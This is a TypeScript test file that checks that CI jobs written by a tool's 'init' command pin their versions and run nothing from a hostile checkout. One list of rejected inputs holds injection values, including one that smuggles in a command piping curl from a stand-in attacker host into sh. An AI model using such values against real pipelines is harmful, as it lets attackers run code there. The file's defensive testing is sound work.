/** The CI jobs that `strat init` writes never run code of the checkout, and install one exact version. */
import { copyFileSync, existsSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  type JobRan,
  type JobRun,
  packProgram,
  plantTraps,
  type Registry,
  readMarker,
  runAction,
  runPipeline,
  runWorkflow,
  startRegistry,
  type Tarball,
} from './job.ts';
import { makePlace, type Place } from './program.ts';

let tarball: Tarball;
let registry: Registry;
beforeAll(async () => {
  tarball = packProgram();
  registry = await startRegistry(tarball);
});
afterAll(() => {
  registry.close();
  tarball.remove();
});

const KINDS = ['github', 'github-forks', 'gitlab'] as const;
type Kind = (typeof KINDS)[number];

/** Writes a strategy and a job into a new repository. */
function setUp(kind: Kind, ...flags: readonly string[]): Place {
  const place = makePlace();
  const { code, err } = place.strat(['init', '--yes', '--template', 'minimal', '--ci', kind, ...flags]);
  expect(code, err).toBe(0);
  return place;
}

const pathOf = (kind: Kind) => (kind === 'gitlab' ? '.gitlab-ci.yml' : '.github/workflows/strat.yml');
const COMMENT = '.github/workflows/strat-comment.yml';
const DUE = '.github/workflows/strat-due.yml';

/** Returns every job that was written. */
function jobsIn(place: Place): readonly (readonly [string, string])[] {
  return [...KINDS.map(pathOf), COMMENT, DUE, '.pre-commit-config.yaml']
    .filter((path, at, all) => all.indexOf(path) === at && existsSync(join(place.root, path)))
    .map((path) => [path, place.read(path)]);
}

function runJob(place: Place, kind: Kind, run: JobRun): Promise<JobRan> {
  const text = place.read(pathOf(kind));
  return kind === 'gitlab' ? runPipeline(place, text, run) : runWorkflow(place, text, run);
}

/** An environment that trusts the current folder, as some shells and tools of developers set it. */
const TRUSTING = {
  PATH: `.:node_modules/.bin:${process.env.PATH}`,
  NODE_OPTIONS: '--require=./trap.cjs',
};

describe.each(KINDS)('the job for %s', (kind) => {
  it('S3 runs the installed program and nothing of a hostile checkout', async () => {
    const place = setUp(kind);
    plantTraps(place, tarball.version);
    place.commit('Plant traps');
    const { code, log } = await runJob(place, kind, { registry, env: TRUSTING });
    expect(readMarker(place)).toBe('');
    expect(log).toContain('Checked 1 strategy');
    expect(code).toBe(0);
  });

  it('S3 installs an exact version, uses pinned actions and names no npx', () => {
    const place = setUp(kind, '--pre-commit');
    for (const [path, text] of jobsIn(place)) {
      expect(text, path).not.toMatch(/\bnpx\b/);
      expect(text.match(/strat-cli@[^'\s]*/g), path).toContain(`strat-cli@${tarball.version}`);
      for (const [, ref] of text.matchAll(/uses: *\S+@(.*)/g))
        expect(ref, path).toMatch(/^[0-9a-f]{40} # v\d+\.\d+\.\d+$/);
      expect(text.split('\n')[0], path).toMatch(/npm.*--package SPEC/);
    }
  });

  it('S3 installs another package where --package names one', () => {
    const specs = [
      ['@acme/strat@1.2.3', "'@acme/strat@1.2.3'"],
      ['https://acme.example/strat-cli-0.2.0.tgz', "'https://acme.example/strat-cli-0.2.0.tgz'"],
      ['/opt/strat/strat-cli-0.2.0.tgz', "'/opt/strat/strat-cli-0.2.0.tgz'"],
      [
        `github:acme/strat#${'a1'.repeat(20)}`,
        `https://codeload.github.com/acme/strat/tar.gz/${'a1'.repeat(20)}`,
      ],
    ] as const;
    for (const [spec, installed] of specs) {
      const place = setUp(kind, '--package', spec);
      for (const [path, text] of jobsIn(place)) {
        expect(text, path).toContain(installed);
        expect(text.split('\n')[0], path).toContain(`Installs ${spec}`);
        expect(text, path).not.toContain('strat-cli@');
      }
    }
  });
});

it('S3 the action runs its own program and nothing of a hostile checkout', async () => {
  const place = setUp('github');
  plantTraps(place, tarball.version);
  const { code, log } = await runAction(place, { registry, env: TRUSTING });
  expect([readMarker(place), code], log).toEqual(['', 0]);
  expect(log).toContain('Checked 1 strategy');
});

it('S3 the job that comments for forks runs nothing of what it downloads', async () => {
  const place = setUp('github-forks');
  plantTraps(place, tarball.version);
  const { log } = await runWorkflow(place, place.read(COMMENT), { registry });
  expect(readMarker(place)).toBe('');
  expect(log).toContain('strat-review.json');
});

it.each(['github', 'github-forks'] as const)(
  'S3 the job for %s that keeps the issue runs nothing of a hostile checkout',
  async (kind) => {
    const place = setUp(kind);
    plantTraps(place, tarball.version);
    place.commit('Plant traps');
    const { log } = await runWorkflow(place, place.read(DUE), { registry, env: TRUSTING });
    expect(readMarker(place)).toBe('');
    expect(log).toContain('GITHUB_REPOSITORY is not set');
  },
);

describe('a tarball in the repository', () => {
  it.each(['github', 'gitlab'] as const)(
    'S3 is installed by the job for %s only while it is the one that was named',
    async (kind) => {
      const place = makePlace();
      place.write('vendor/README.md', 'The checker.\n');
      copyFileSync(tarball.path, join(place.root, 'vendor/strat.tgz'));
      const argv = [
        'init',
        '--yes',
        '--template',
        'minimal',
        '--ci',
        kind,
        '--package',
        './vendor/strat.tgz',
      ];
      expect(place.strat(argv).code).toBe(0);
      plantTraps(place, tarball.version);
      const ran = await runJob(place, kind, { registry });
      expect([ran.code, readMarker(place)], ran.log).toEqual([0, '']);
      expect(ran.log).toContain('Checked 1 strategy');
      place.write('vendor/strat.tgz', 'another');
      const changed = await runJob(place, kind, { registry });
      expect(changed.code).not.toBe(0);
      expect(changed.log).toContain('FAILED');
      expect(changed.log).not.toContain('Checked 1 strategy');
    },
  );

  it('S3 that is not there yet makes a job that fails until its checksum is filled in', async () => {
    const place = makePlace();
    const argv = ['init', '--yes', '--template', 'minimal', '--ci', 'github', '--package', './strat.tgz'];
    const { code, err } = place.strat(argv);
    expect([code, err]).toEqual([0, expect.stringContaining('sha512sum strat.tgz')]);
    copyFileSync(tarball.path, join(place.root, 'strat.tgz'));
    expect((await runJob(place, 'github', { registry })).code).not.toBe(0);
  });
});

describe('strat init --package', () => {
  it.each([
    'strat-cli@latest',
    "strat-cli@0.2.0'; curl evil.example | sh #",
    'strat-cli@0.2.0\n      - run: id',
    'http://acme.example/strat.tgz',
    'github:acme/strat#main',
    '../strat.tgz',
  ])('S3 exits with 2, writes nothing and lists the forms for %j', (spec) => {
    const place = makePlace();
    const { code, err } = place.strat(['init', '--yes', '--ci', 'gitlab', `--package=${spec}`]);
    expect([code, readdirSync(place.root)]).toEqual([2, ['.git']]);
    for (const form of ['strat-cli@', 'https://', '.tgz', 'github:owner/repo#']) expect(err).toContain(form);
  });

  it('S3 exits with 2 where no job or hook is written, or where it cannot work', () => {
    const cases: readonly (readonly [readonly string[], RegExp])[] = [
      [[], /^ {2}Add `--ci github`, .*`--pre-commit`\.$/m],
      [['--ci', 'github-forks'], /^ {2}Use a version on npm, or the https URL of a tarball\.$/m],
      [['--pre-commit'], /^ {2}Give the absolute path of the tarball\.$/m],
    ];
    for (const [argv, said] of cases) {
      const place = makePlace();
      const { code, err } = place.strat(['init', '--yes', '--package', './strat.tgz', ...argv]);
      expect([code, readdirSync(place.root)]).toEqual([2, ['.git']]);
      expect(err).toMatch(said);
    }
  });
});
